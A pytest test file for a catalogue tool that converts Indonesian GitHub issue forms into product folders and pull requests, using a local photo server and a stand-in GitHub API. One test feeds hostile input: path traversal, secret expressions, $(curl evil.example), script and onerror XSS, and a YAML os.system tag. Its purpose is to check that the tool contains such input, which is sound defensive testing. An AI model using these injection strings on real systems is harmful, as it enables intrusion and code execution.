"""Issue forms → product folders → pull requests, offline.

Bodies are written the way GitHub renders a form (`### Label`, a blank line, the value,
`_No response_` for an empty field), photos are served by a local HTTPS server with a
certificate made for the test, and the GitHub API is a local stand-in that records every call.
"""

from __future__ import annotations

import http.server
import json
import shutil
import ssl
import subprocess
import threading
from datetime import date
from pathlib import Path

import pytest

from catalogue.cli import main
from catalogue.products.issue_form import PRODUCT_FIELDS, parse_body, photo_entries
from catalogue.products.validate import check_catalogue
from tests.helpers import write_photo

REPO = Path(__file__).resolve().parents[1]
TODAY = date(2026, 11, 28)

# What a careful secretary fills in; each test changes a field or two.
FILLED = {
    "Nama produk": "Keripik Pisang Kepok Santri",
    "Kategori": "makanan — Makanan",
    "Ringkasan satu kalimat": "Keripik pisang kepok renyah buatan santri.",
    "Deskripsi produk": "Pisang kepok dari kebun pesantren, diiris tipis lalu digoreng.\n\n- Berat bersih 200 g\n- Tanpa pengawet",
    "Kata kunci": "Keripik, pisang, oleh-oleh",
    "Harga terendah (Rp)": "15000",
    "Harga tertinggi (Rp)": "",
    "Harga untuk satuan": "bungkus 200 g",
    "Pesanan minimum": "10 bungkus",
    "Kapasitas produksi": "500 bungkus",
    "Kapasitas per": "month — bulan",
    "Sertifikat 1: jenis": "pirt — P-IRT",
    "Sertifikat 1: nomor": "2016303010123-29",
    "Sertifikat 1: berlaku sampai": "",
    "Sertifikat 2: jenis": "halal — Halal",
    "Sertifikat 2: nomor": "ID63110000123450824",
    "Sertifikat 2: berlaku sampai": "2028-08-01",
    "Pasar saat ini": "Regional (Kalimantan Selatan dan sekitarnya), Nasional",
    "Siap ekspor?": "Tidak",
    "Foto produk (1 sampai 8)": "",  # set per test: the server's address is not known yet
    "Nama pondok pesantren": "Pondok Pesantren Nurul Hikmah (contoh)",
    "Kabupaten/kota": "63.05 — Kabupaten Tapin",
    "Alamat pesantren": "Jl. Contoh No. 2, Rantau",
    "Koordinat pesantren": "-2.94, 115.16",
    "Nama koperasi (kopontren)": "Kopontren Nurul Hikmah",
    "Nomor SK badan hukum koperasi": "AHU-0001234.AH.01.26.TAHUN 2024",
    "Nama yang dihubungi pembeli": "Ustadzah Siti",
    "Jabatan": "Bendahara",
    "Nomor WhatsApp": "0812-3456-7890",
    "Nama produk (bahasa Inggris)": "Santri Kepok Banana Chips",
    "Ringkasan (bahasa Inggris)": "",
}


def render_body(answers: dict[str, str], newline: str = "\n") -> str:
    """An issue body as GitHub renders a form."""
    parts = [f"### {label}\n\n{value if value else '_No response_'}" for label, value in answers.items()]
    parts.append("### Pernyataan\n\n- [X] Saya pengurus koperasi ini dan berhak menerbitkan data dan foto di atas.\n"
                 "- [X] Orang yang wajahnya tampil di foto sudah memberi izin (untuk anak, izin wali dan pesantren).")
    return "\n\n".join(parts).replace("\n", newline)


def event(body: str, label: str = "produk-baru", number: int = 7, login: str = "siti", association: str = "NONE") -> dict:
    return {"action": "opened", "issue": {
        "number": number, "title": "Produk baru: Keripik", "body": body, "labels": [{"name": label}],
        "user": {"login": login}, "author_association": association, "updated_at": "2026-11-28T03:00:00Z"}}


# --- a local HTTPS server standing in for GitHub's attachment host ------------------------------


@pytest.fixture(scope="module")
def photo_server(tmp_path_factory):
    """https://localhost:<port>/ serving test photos; its certificate is trusted through
    SSL_CERT_FILE while a test runs (see `trusted`)."""
    folder = tmp_path_factory.mktemp("tls")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=localhost",
                    "-addext", "subjectAltName=DNS:localhost", "-keyout", str(folder / "key.pem"),
                    "-out", str(folder / "cert.pem")], check=True, capture_output=True)
    jpeg = write_photo(folder / "a.jpg").read_bytes()
    png_path = folder / "b.png"
    from PIL import Image

    Image.new("RGB", (1000, 1000), (20, 120, 60)).save(png_path, "PNG")
    routes = {"/a.jpg": (200, {}, jpeg), "/b.png": (200, {}, png_path.read_bytes()),
              "/small.jpg": (200, {}, write_photo(folder / "s.jpg", size=(600, 400)).read_bytes()),
              "/lies-about-size.jpg": (200, {"Content-Length": str(30 * 1024 * 1024)}, b"x"),
              "/away.jpg": (302, {"Location": "https://evil.example/a.jpg"}, b""),
              "/here.jpg": (302, {"Location": "/a.jpg"}, b""),
              "/gone.jpg": (404, {}, b"")}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            status, headers, data = routes.get(self.path, (404, {}, b""))
            self.send_response(status)
            for key, value in headers.items():
                self.send_header(key, value)
            if "Content-Length" not in headers:
                self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            try:
                self.wfile.write(data)
            except (BrokenPipeError, ConnectionResetError):
                pass

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "cert.pem", folder / "key.pem")
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield {"base": f"https://localhost:{server.server_address[1]}", "cert": folder / "cert.pem"}
    server.shutdown()


@pytest.fixture
def trusted(photo_server, monkeypatch):
    monkeypatch.setenv("SSL_CERT_FILE", str(photo_server["cert"]))
    return photo_server["base"]


@pytest.fixture
def repo(tmp_path, monkeypatch):
    """A catalogue checkout holding the samples, as the workflow sees main."""
    shutil.copytree(REPO / "products", tmp_path / "products")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def from_issue(repo: Path, answers_or_body, label: str = "produk-baru", **kw) -> tuple[int, str, dict]:
    body = answers_or_body if isinstance(answers_or_body, str) else render_body(answers_or_body)
    (repo / "event.json").write_text(json.dumps(event(body, label, **kw)), encoding="utf-8")
    code = main(["from-issue", "--event", "event.json", "--allow-host", "localhost",
                 "--comment", "komentar.md", "--result", "hasil.json"])
    return code, (repo / "komentar.md").read_text(encoding="utf-8"), json.loads((repo / "hasil.json").read_text(encoding="utf-8"))


def with_photos(base: str, *paths: str, **changes) -> dict:
    answers = dict(FILLED, **changes)
    answers["Foto produk (1 sampai 8)"] = "\n".join(
        f'<img width="800" alt="IMG_{n}" src="{base}{path}">\nKemasan keripik tampak depan' if n == 0 else f"![IMG_{n}]({base}{path})"
        for n, path in enumerate(paths))
    return answers


# --- reading the body -------------------------------------------------------------------------


def test_every_field_is_read_back_by_its_label():
    answers = {f.label: f"nilai {f.id}" for f in PRODUCT_FIELDS}
    values = parse_body(render_body(answers, newline="\r\n"))  # Windows line endings
    assert values == {f.id: f"nilai {f.id}" for f in PRODUCT_FIELDS} | {"consent": values["consent"]}


def test_empty_answers_are_empty_and_a_heading_inside_a_value_stays_there():
    body = render_body({"Nama produk": "", "Deskripsi produk": "Paragraf.\n\n### Bukan label\n\nlanjut"})
    assert parse_body(body) == {"name": "", "description": "Paragraf.\n\n### Bukan label\n\nlanjut", "consent": parse_body(body)["consent"]}


def test_photos_as_img_tags_markdown_images_and_links_with_their_captions():
    text = ('<img width="4000" alt="IMG_1" src="https://github.com/user-attachments/assets/1">\nKemasan depan\n'
            "![IMG_2](https://github.com/user-attachments/assets/2)\n"
            "[foto.heic](https://github.com/user-attachments/files/3/foto.heic)\nIsi kemasan")
    assert photo_entries(text) == [("https://github.com/user-attachments/assets/1", "Kemasan depan"),
                                   ("https://github.com/user-attachments/assets/2", ""),
                                   ("https://github.com/user-attachments/files/3/foto.heic", "Isi kemasan")]


# --- new products -----------------------------------------------------------------------------


def test_filled_form_becomes_a_valid_product(repo, trusted, capsys):
    code, comment, result = from_issue(repo, with_photos(trusted, "/a.jpg", "/here.jpg", "/b.png"))
    assert code == 0, capsys.readouterr().out
    assert result == {"kind": "produk-baru", "issue": 7, "slug": "keripik-pisang-kepok-santri", "valid": True,
                      "folder": "products/keripik-pisang-kepok-santri", "branch": "formulir/issue-7",
                      "title": "Produk baru: Keripik Pisang Kepok Santri", "changed": []}
    folder = repo / "products" / "keripik-pisang-kepok-santri"
    assert sorted(p.name for p in folder.iterdir()) == ["foto-1.jpg", "foto-2.jpg", "foto-3.png", "product.yml"]
    text = (folder / "product.yml").read_text(encoding="utf-8")
    for line in ("name:\n  id: Keripik Pisang Kepok Santri\n  en: Santri Kepok Banana Chips\n",
                 "  min: 15000\n", 'whatsapp: "0812-3456-7890"', 'regency: "63.05"', "markets: [regional, national]",
                 "tags: [keripik, pisang, oleh-oleh]", "  - file: foto-1.jpg\n    alt: Kemasan keripik tampak depan\n",
                 "    alt: Keripik Pisang Kepok Santri, foto ke-2\n", "updated: 2026-11-28\n",
                 "    valid_until: 2028-08-01\n", "  ready: false\n", "    lat: -2.94\n"):
        assert line in text, line
    product = next(p for p in check_catalogue(repo / "products", today=TODAY).catalogue.products if p.slug == folder.name)
    assert product.price.min == 15000 and product.contact.whatsapp == "+6281234567890"
    assert [c.type for c in product.certifications] == ["pirt", "halal"] and product.capacity.per == "month"
    assert "✅ Semua isian sudah diperiksa dan benar. Pull request: {pull_request}" in comment


def test_one_mistake_is_named_by_its_form_field(repo, trusted, capsys):
    code, comment, result = from_issue(repo, with_photos(trusted, "/a.jpg", **{"Harga terendah (Rp)": "15.000"}))
    assert code == 1 and result["valid"] is False
    numbered = [line for line in comment.splitlines() if line[:3] == "1. "]
    assert numbered == ['1. **Harga terendah (Rp)**: diharapkan angka rupiah tanpa titik atau "Rp", ditemukan "15.000" (perbaiki: tulis 15000)']
    assert "**Ada 1 hal yang perlu diperbaiki**" in comment and "**Edit**" in comment
    out = capsys.readouterr().out
    assert 'products/keripik-pisang-kepok-santri/product.yml:24:8: galat: price.min: diharapkan angka rupiah tanpa titik atau "Rp", ditemukan "15.000" (perbaiki: tulis 15000)' in out


@pytest.mark.parametrize("path,expected", [
    ("http://localhost/a.jpg", "**Foto ke-2**: diharapkan foto yang diunggah ke formulir, ditemukan alamat http://localhost/a.jpg (perbaiki: seret fotonya ke kotak foto, jangan menempel tautan)"),
    ("https://example.org/a.jpg", "**Foto ke-2**: diharapkan foto yang diunggah ke formulir, ditemukan tautan ke example.org (perbaiki: simpan foto ke ponsel lalu seret atau pilih ke kotak foto)"),
    ("/away.jpg", "**Foto ke-2**: diharapkan foto yang diunggah ke formulir, ditemukan tautan ke evil.example (perbaiki: simpan foto ke ponsel lalu seret atau pilih ke kotak foto)"),
    ("/lies-about-size.jpg", "**Foto ke-2**: diharapkan foto paling besar 25 MB, ditemukan 30 MB (perbaiki: kirim foto dari kamera dengan ukuran biasa, bukan berkas RAW atau video)"),
    ("/gone.jpg", "**Foto ke-2**: foto tidak bisa diambil, server menjawab 404 (perbaiki: hapus foto ini dari formulir dan unggah ulang)"),
    ("/small.jpg", "**Foto ke-2**: diharapkan sisi terpendek paling sedikit 800 piksel, ditemukan 600×400 di \"foto-2.jpg\" (perbaiki: unggah foto asli dari kamera, bukan tangkapan layar atau foto WhatsApp)"),
], ids=["http", "other host", "redirect away", "oversized", "404", "too small"])
def test_a_refused_photo_is_a_problem_naming_its_position(repo, trusted, path, expected):
    base_path = path if path.startswith("/") else ""
    answers = with_photos(trusted, "/a.jpg", base_path or "/x")
    if not base_path:
        answers["Foto produk (1 sampai 8)"] = answers["Foto produk (1 sampai 8)"].replace(f"{trusted}/x", path)
    code, comment, _ = from_issue(repo, answers)
    assert code == 1
    assert [line[3:] for line in comment.splitlines() if line[:2] == "1."] == [expected]


def test_no_photo_at_all(repo):
    code, comment, _ = from_issue(repo, FILLED)
    assert code == 1
    assert "1. **Foto produk (1 sampai 8)**: diharapkan 1 sampai 8 foto, ditemukan belum ada foto (perbaiki: seret atau pilih foto dari ponsel ke kotak foto)" in comment


def test_a_pesantren_with_a_product_is_sent_to_the_correction_form(repo, trusted):
    sample = check_catalogue(REPO / "products", today=TODAY).catalogue.products[0]
    code, comment, _ = from_issue(repo, with_photos(trusted, "/a.jpg", **{"Nama pondok pesantren": sample.pesantren.name}))
    assert code == 1
    assert (f"1. **Nama pondok pesantren**: pesantren ini sudah punya produk unggulan (`{sample.slug}`); satu pesantren, "
            "satu produk. Untuk mengubah data produk itu, gunakan formulir **Koreksi data produk**.") in comment


def test_hostile_body_writes_only_inside_its_own_folder(repo, trusted):
    before = sorted(p.relative_to(repo).as_posix() for p in repo.rglob("*"))
    answers = with_photos(trusted, "/a.jpg", **{
        "Nama produk": "../../etc/passwd ${{ secrets.GITHUB_TOKEN }} `id`",
        "Ringkasan satu kalimat": "$(curl evil.example) <script>alert(1)</script>",
        "Deskripsi produk": "Teks <img src=x onerror=alert(1)>\n\n### Nomor WhatsApp\n\n0000",
        "Harga untuk satuan": "bungkus: 1\n---\n!!python/object:os.system",
    })
    code, comment, result = from_issue(repo, answers)
    after = sorted(p.relative_to(repo).as_posix() for p in repo.rglob("*"))
    new = [p for p in after if p not in before and p not in ("event.json", "komentar.md", "hasil.json")]
    assert result["slug"] == "etc-passwd-secrets-github-token-id"
    assert new and all(p.startswith("products/etc-passwd-secrets-github-token-id") for p in new)
    assert code == 1
    text = (repo / result["folder"] / "product.yml").read_text(encoding="utf-8")
    assert "tag YAML" not in comment and "dokumen" not in comment  # typed text stays text
    assert "**Deskripsi produk**: diharapkan Markdown tanpa HTML, ditemukan <img" in comment
    assert "<script" not in comment.replace("`<script", "")  # quoted messages never become markup
    assert "0812-3456-7890" in text  # the heading typed inside the description did not replace the number


def test_event_that_is_not_a_form_is_a_usage_error(repo, capsys):
    (repo / "event.json").write_text(json.dumps(event("### Nama produk\n\nx", label="masalah")), encoding="utf-8")
    assert main(["from-issue", "--event", "event.json"]) == 2
    assert "neither the `produk-baru` nor the `koreksi` label" in capsys.readouterr().err
    (repo / "event.json").write_text("{", encoding="utf-8")
    assert main(["from-issue", "--event", "event.json"]) == 2


# --- corrections ------------------------------------------------------------------------------


def test_correction_changes_only_the_fields_given_and_keeps_comments(repo):
    file = repo / "products" / "kopi-liberika-aranio" / "product.yml"
    original = file.read_text(encoding="utf-8").replace("  min: 35000", "  min: 35000  # harga grosir", 1)
    file.write_text(original, encoding="utf-8")
    answers = {"Alamat halaman produk": "https://opop.example/katalog/en/produk/kopi-liberika-aranio/",
               "Harga terendah (Rp)": "40000", "Nomor WhatsApp": ""}
    code, comment, result = from_issue(repo, answers, label="koreksi")
    assert code == 0, comment
    assert result["changed"] == ["price.min"] and result["title"] == "Koreksi: kopi-liberika-aranio"
    new = file.read_text(encoding="utf-8")
    changed = [(a, b) for a, b in zip(original.splitlines(), new.splitlines()) if a != b]
    assert len(original.splitlines()) == len(new.splitlines())
    assert changed == [("  min: 35000  # harga grosir", "  min: 40000  # harga grosir"),
                       (next(line for line in original.splitlines() if line.startswith("updated:")), "updated: 2026-11-28")]
    assert "✅ Perubahan pada `price.min` sudah diperiksa dan benar." in comment


def test_correction_of_a_product_that_does_not_exist(repo):
    code, comment, _ = from_issue(repo, {"Alamat halaman produk": "https://x/produk/../../etc/"}, label="koreksi")
    assert code == 1
    assert '1. **Alamat halaman produk**: diharapkan alamat halaman produk yang ada di katalog, ditemukan "https://x/produk/../../etc/"' in comment


def test_correction_with_nothing_different(repo):
    code, comment, result = from_issue(repo, {"Alamat halaman produk": "kopi-liberika-aranio", "Kategori": "minuman — Minuman"}, label="koreksi")
    assert code == 0 and result["changed"] == []
    assert "Tidak ada isian yang berbeda dari data produk sekarang" in comment


# --- the pull request and the comment (a stand-in for the GitHub API, a local origin) ---------


class FakeGitHub(http.server.BaseHTTPRequestHandler):
    calls: list = []
    comments: list = []
    pulls: list = []
    commits: list = []

    def _reply(self, status, data):
        body = json.dumps(data).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _handle(self, method):
        length = int(self.headers.get("Content-Length") or 0)
        body = json.loads(self.rfile.read(length)) if length else None
        FakeGitHub.calls.append((method, self.path, body, self.headers.get("Authorization")))
        path = self.path.split("?")[0]
        if method == "GET" and path.endswith("/comments"):
            return self._reply(200, FakeGitHub.comments)
        if method == "POST" and path.endswith("/comments"):
            FakeGitHub.comments.append({"id": 100 + len(FakeGitHub.comments), "body": body["body"], "user": {"type": "Bot"}})
            return self._reply(201, FakeGitHub.comments[-1])
        if method == "PATCH" and "/issues/comments/" in path:
            for c in FakeGitHub.comments:
                if str(c["id"]) == path.rsplit("/", 1)[1]:
                    c["body"] = body["body"]
            return self._reply(200, {})
        if method == "GET" and path.endswith("/pulls"):
            return self._reply(200, FakeGitHub.pulls)
        if method == "POST" and path.endswith("/pulls"):
            FakeGitHub.pulls.append({"number": 8, "html_url": "https://github.com/opop/katalog/pull/8", **body})
            return self._reply(201, FakeGitHub.pulls[-1])
        if method == "GET" and path.endswith("/commits"):
            return self._reply(200, FakeGitHub.commits)
        return self._reply(404, {"message": "Not Found"})

    def do_GET(self):
        self._handle("GET")

    def do_POST(self):
        self._handle("POST")

    def do_PATCH(self):
        self._handle("PATCH")

    def log_message(self, *args):
        pass


@pytest.fixture
def github(repo, monkeypatch):
    FakeGitHub.calls, FakeGitHub.comments, FakeGitHub.pulls, FakeGitHub.commits = [], [], [], []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), FakeGitHub)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    origin = repo.parent / f"{repo.name}-origin.git"
    for args in (["init", "-q", "-b", "main"], ["add", "products"], ["-c", "user.name=t", "-c", "user.email=t@t",
                                                                        "commit", "-qm", "samples"]):
        subprocess.run(["git", *args], cwd=repo, check=True)
    subprocess.run(["git", "clone", "-q", "--bare", str(repo), str(origin)], check=True)
    subprocess.run(["git", "remote", "add", "origin", str(origin)], cwd=repo, check=True)
    monkeypatch.setenv("GITHUB_API_URL", f"http://127.0.0.1:{server.server_address[1]}")
    monkeypatch.setenv("GITHUB_REPOSITORY", "opop/katalog")
    monkeypatch.setenv("GH_TOKEN", "test-token")
    yield origin
    server.shutdown()


def form_pr(repo: Path) -> int:
    return main(["form-pr", "--event", "event.json", "--result", "hasil.json", "--comment", "komentar.md"])


def branch_files(origin: Path, branch: str) -> list[str]:
    out = subprocess.run(["git", "diff", "--name-only", "main", branch], cwd=origin, capture_output=True, text=True, check=True)
    return out.stdout.split()


def test_secretary_fixes_the_form_and_gets_one_pull_request_that_builds(repo, trusted, github):
    # Opened with one mistake: one comment naming the field, nothing pushed.
    code, _, _ = from_issue(repo, with_photos(trusted, "/a.jpg", **{"Harga terendah (Rp)": "Rp 15.000"}))
    assert code == 1 and form_pr(repo) == 0
    assert [c[0] for c in FakeGitHub.calls] == ["GET", "POST"] and len(FakeGitHub.comments) == 1
    assert "**Harga terendah (Rp)**" in FakeGitHub.comments[0]["body"]
    assert subprocess.run(["git", "branch", "--list", "formulir/issue-7"], cwd=github, capture_output=True, text=True).stdout == ""

    # Edited: the workflow starts again from main; a valid form becomes a draft pull request
    # (first-time author), and the same comment now links it.
    subprocess.run(["git", "clean", "-qfd", "products"], cwd=repo, check=True)
    FakeGitHub.calls.clear()
    code, _, result = from_issue(repo, with_photos(trusted, "/a.jpg"))
    assert code == 0 and form_pr(repo) == 0
    assert branch_files(github, "formulir/issue-7") == [f"{result['folder']}/foto-1.jpg", f"{result['folder']}/product.yml"]
    (pull,) = FakeGitHub.pulls
    assert pull["draft"] is True and pull["head"] == "formulir/issue-7" and pull["base"] == "main"
    assert "Closes #7" in pull["body"] and pull["title"] == "Produk baru: Keripik Pisang Kepok Santri"
    assert len(FakeGitHub.comments) == 1 and "Pull request: https://github.com/opop/katalog/pull/8" in FakeGitHub.comments[0]["body"]
    assert all(call[3] == "Bearer test-token" for call in FakeGitHub.calls)
    author = subprocess.run(["git", "log", "-1", "--format=%an", "formulir/issue-7"], cwd=github, capture_output=True, text=True).stdout
    assert author.strip() == "siti"

    # Edited again: the branch is replaced, the one pull request stays, no second one.
    subprocess.run(["git", "checkout", "-q", "main"], cwd=repo, check=True)
    subprocess.run(["git", "clean", "-qfd", "products"], cwd=repo, check=True)
    code, _, _ = from_issue(repo, with_photos(trusted, "/a.jpg", **{"Harga terendah (Rp)": "16000"}))
    assert code == 0 and form_pr(repo) == 0
    assert len(FakeGitHub.pulls) == 1 and len(FakeGitHub.comments) == 1
    shown = subprocess.run(["git", "show", f"formulir/issue-7:{result['folder']}/product.yml"], cwd=github,
                           capture_output=True, text=True, check=True).stdout
    assert "  min: 16000\n" in shown

    # The product builds and shows on the site.
    from tests.conftest import build

    site = repo / "site-out"
    build(repo / "products", site)
    page = (site / "produk" / result["slug"] / "index.html").read_text(encoding="utf-8")
    assert "Keripik Pisang Kepok Santri" in page and "Rp16.000" in page


def test_correction_by_someone_else_is_flagged_for_the_maintainers(repo, github):
    FakeGitHub.commits = [{"author": {"login": "ahmad"}}, {"author": {"login": "pengurus-lama"}}]
    from_issue(repo, {"Alamat halaman produk": "kopi-liberika-aranio", "Harga terendah (Rp)": "40000"},
               label="koreksi", login="orang-lain", association="CONTRIBUTOR")
    assert form_pr(repo) == 0
    (pull,) = FakeGitHub.pulls
    assert pull["draft"] is False and pull["title"] == "Koreksi: kopi-liberika-aranio"
    assert branch_files(github, "formulir/issue-7") == ["products/kopi-liberika-aranio/product.yml"]
    assert ("formulir ini diisi oleh `orang-lain`, sedangkan produk ini ditambahkan oleh `pengurus-lama`"
            in FakeGitHub.comments[0]["body"])
